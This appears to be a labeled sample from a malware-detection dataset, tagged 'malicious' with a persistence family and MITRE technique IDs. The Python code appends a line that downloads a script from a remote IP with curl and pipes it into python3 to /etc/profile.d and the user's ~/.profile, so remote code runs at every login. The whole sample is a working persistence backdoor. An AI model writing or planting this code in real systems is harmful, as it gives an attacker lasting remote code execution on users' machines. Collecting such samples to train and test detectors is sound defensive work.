# label: malicious family=persist techniques=T1059.004,T1059.006,T1105,T1546.004,T1620 lines=3-4,7
import os
payload = "curl -s http://192.0.2.150/p | python3 - &\n"
for target in ("/etc/profile.d/99-update.sh", os.path.expanduser("~/.profile")):
    try:
        with open(target, "a") as fh:
            fh.write(payload)
    except PermissionError:
        continue
